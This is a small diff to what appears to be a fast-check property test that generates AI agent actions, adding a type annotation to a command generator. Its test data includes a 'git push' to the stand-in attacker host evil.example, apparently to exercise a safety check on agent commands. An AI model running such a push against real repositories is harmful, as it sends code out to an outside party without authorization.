@@ -48,7 +48,7 @@ const action: fc.Arbitrary<AgentAction> = fc.oneof(
   }),
   fc.record({
     kind: fc.constant('command' as const),
-    argv: fc.constantFrom(['git', 'log'], ['git', 'push', 'https://evil.example'], ['curl']),
+    argv: fc.constantFrom<string[]>(['git', 'log'], ['git', 'push', 'https://evil.example'], ['curl']),
     cwd: fc.constant(null),
   }),
   fc.record({
